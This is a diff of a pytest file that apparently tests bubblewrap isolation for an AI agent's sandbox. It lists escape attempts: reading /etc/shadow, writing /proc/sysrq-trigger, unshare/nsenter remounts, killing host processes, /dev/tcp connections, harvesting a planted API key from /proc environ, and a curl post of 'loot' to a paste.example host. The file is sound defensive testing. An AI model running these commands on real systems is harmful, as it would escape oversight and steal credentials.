@@ -39,62 +39,33 @@ async def command(world: World, text: str) -> ToolResult:
 
 
 @pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
-async def test_nothing_is_written_outside_of_the_workspace(level: Level, escapes: bool, tmp_path: Path) -> None:
-    outside = tmp_path / "outside"
-    with make_world({}, folder=tmp_path, isolation=level) as world:
-        await command(world, f"echo x > {outside}; echo x > ../beside; echo x > ~/.curlrc; echo x > here")
-
-        assert outside.exists() == escapes
-        assert (world.folder.parent / "beside").exists() == escapes
-        assert (world.home / ".curlrc").exists() == escapes
-        assert world.text("here") == "x\n"
-
-
-@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
-async def test_what_a_check_runs_writes_nothing_outside_either(level: Level, escapes: bool, tmp_path: Path) -> None:
-    outside = tmp_path / "outside"
-    with make_world({}, folder=tmp_path, isolation=level) as world:
-        world.execute(f"open('here', 'w').write('x'); open({str(outside)!r}, 'w')")
-
-        assert outside.exists() == escapes
-        assert world.text("here") == "x"
-
-
-@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
-async def test_no_server_of_the_machine_is_reached(level: Level, escapes: bool, tmp_path: Path) -> None:
+async def test_what_works_on_the_machine_fails_in_a_cell(level: Level, escapes: bool, tmp_path: Path) -> None:
+    outside, checked, mark = tmp_path / "outside", tmp_path / "checked", int.from_bytes(os.urandom(6))
     with (
+        subprocess.Popen(["sleep", f"60.{mark}"]) as bystander,
         socket.create_server(("127.0.0.1", 0)) as server,
         make_world({}, folder=tmp_path, isolation=level) as world,
     ):
-        port = server.getsockname()[1]
-        result = await command(world, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")
-
-        assert ("connected" in result.text) == escapes
-
-
-@pytest.mark.parametrize(("level", "escapes"), [("none", True), ("bubblewrap", False)])
-async def test_no_process_of_the_machine_is_seen_or_ended(level: Level, escapes: bool, tmp_path: Path) -> None:
-    mark = int.from_bytes(os.urandom(6))
-    bystander = subprocess.Popen(["sleep", f"60.{mark}"])
-    try:
-        with make_world({}, folder=tmp_path, isolation=level) as world:
-            seen = await command(world, f"grep -lsaE '^sleep.60[.]{mark}' /proc/[0-9]*/cmdline | wc -l")
-            await command(world, f"kill -KILL {bystander.pid}")
-
-            assert (seen.text.strip() != "0") == escapes
-            with anyio.move_on_after(5 if escapes else 0.2):
-                while bystander.poll() is None:
-                    await anyio.sleep(0.01)
-            assert (bystander.poll() is not None) == escapes
-    finally:
+        await command(world, f"echo x > {outside}; echo x > ../beside; echo x > ~/.curlrc; echo x > here")
+        world.execute(f"open({str(checked)!r}, 'w')")
+        connected = await command(world, f"exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]} && echo connected")
+        seen = await command(world, f"grep -lsaE '^sleep.60[.]{mark}' /proc/[0-9]*/cmdline | wc -l")
+        await command(world, f"kill -KILL {bystander.pid}")
+        written = [outside, checked, world.folder.parent / "beside", world.home / ".curlrc"]
+        done = [*(path.exists() for path in written), "connected" in connected.text, seen.text.strip() != "0"]
+        with anyio.move_on_after(5 if escapes else 0.2):
+            while bystander.poll() is None:
+                await anyio.sleep(0.01)
+        done.append(bystander.poll() is not None)
         bystander.kill()
-        bystander.wait()
+
+        assert done == [escapes] * 7
+        assert world.text("here") == "x\n"
 
 
 ATTEMPTS = (
     ": >> /proc/sys/kernel/core_pattern",  # opened, not written
     ": >> /proc/sysrq-trigger",
-    "chmod 666 /dev/null",  # what it is anyway
     ": > /usr/bpagent-was-here",
     "cat /etc/shadow",
     "ls /sys/kernel",
@@ -103,7 +74,6 @@ ATTEMPTS = (
     "ls /proc/1/root/home/*",
     "mount -t tmpfs none /tmp",
     "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw / && : > /bpagent-was-here'",
-    "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw /dev/null'",
     "unshare -U --map-root-user --mount --pid --fork sh -c 'mount -t proc none /proc && : >> /proc/sys/vm/swappiness'",
     "nsenter --target 1 --net true",
     "mknod disk b 254 0",
@@ -112,37 +82,24 @@ ATTEMPTS = (
 )
 
 
-async def test_the_machine_is_not_changed_nor_looked_at(tmp_path: Path) -> None:
-    tries = "\n".join(f"if {attempt}\nthen echo worked {n}; fi" for n, attempt in enumerate(ATTEMPTS))
-    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
-        result = await command(world, tries)
-
-    worked = [ATTEMPTS[int(line.split()[1])] for line in result.text.splitlines() if line.startswith("worked ")]
-    assert worked == [ATTEMPTS[-1]]
-
-
-async def test_nobody_inside_has_or_gets_a_capability(tmp_path: Path) -> None:
-    with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
-        result = await command(world, "grep -E 'CapInh|CapPrm|CapEff|CapAmb' /proc/self/status; cat /proc/mounts")
-
-    lines = result.text.splitlines()
-    capabilities = [line.split()[1] for line in lines if line.startswith("Cap")]
-    mounts = [line.split()[3].split(",") for line in lines if not line.startswith("Cap")]
-    assert capabilities == ["0" * 16] * 4
-    assert len(mounts) > 5
-    assert all("nosuid" in options for options in mounts)
-
-
-async def test_the_environment_and_the_descriptors_of_the_experiment_stay_outside(
+async def test_the_machine_is_not_changed_nor_looked_at_and_nothing_of_the_experiment_is_seen(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", "sk-not-to-be-seen")
+    tries = "\n".join(f"if {attempt}\nthen echo worked {n}; fi" for n, attempt in enumerate(ATTEMPTS))
     with make_world({}, folder=tmp_path, isolation="bubblewrap") as world:
-        result = await command(world, "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls -l /proc/self/fd")
+        result = await command(world, tries)
+        looked = await command(world, "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls -l /proc/self/fd")
+        told = await command(world, "grep -E 'CapInh|CapPrm|CapEff|CapAmb' /proc/self/status; cat /proc/mounts")
 
-    assert "sk-not-to-be-seen" not in result.text
-    assert "socket:" not in result.text
-    assert "ns:[" not in result.text
+    worked = [ATTEMPTS[int(line.split()[1])] for line in result.text.splitlines() if line.startswith("worked ")]
+    assert worked == [ATTEMPTS[-1]]
+    assert [secret for secret in ("sk-not-to-be-seen", "socket:", "ns:[") if secret in looked.text] == []
+    lines = told.text.splitlines()
+    assert [line.split()[1] for line in lines if line.startswith("Cap")] == ["0" * 16] * 4
+    mounts = [line.split()[3].split(",") for line in lines if not line.startswith("Cap")]
+    assert len(mounts) > 5
+    assert all("nosuid" in options for options in mounts)
 
 
 async def test_hosts_are_reached_inside_by_any_program_and_mail_is_for_the_box_of_the_cell(
@@ -159,20 +116,12 @@ async def test_hosts_are_reached_inside_by_any_program_and_mail_is_for_the_box_o
         await command(one, f"curl -q -s {forged} -d loot http://127.0.0.1:8025/new")
         send = "from urllib.request import urlopen; urlopen('http://127.0.0.1:8025/raw', b'more').read()"
         await command(other, f"python3 -c {shlex.quote(send)}")
+        seen = await command(other, f"ls {one.folder} && echo it worked")
 
         assert fetched.text.startswith("the tool")
+        assert "it worked" not in seen.text
         assert [parcel.body for parcel in one.received("paste.example")] == [b"loot"]
         assert [(parcel.path, parcel.body) for parcel in other.received("127.0.0.1")] == [("/raw", b"more")]
-
-
-async def test_episodes_do_not_see_each_other(tmp_path: Path) -> None:
-    with (
-        make_world({"secret": "x"}, folder=tmp_path, isolation="bubblewrap") as one,
-        make_world({}, folder=tmp_path, isolation="bubblewrap") as other,
-    ):
-        result = await command(other, f"cat {one.folder}/secret && echo it worked")
-
-    assert "it worked" not in result.text
 
 
 async def test_who_ends_the_cell_ends_alone_and_nothing_runs_outside_instead(tmp_path: Path) -> None:
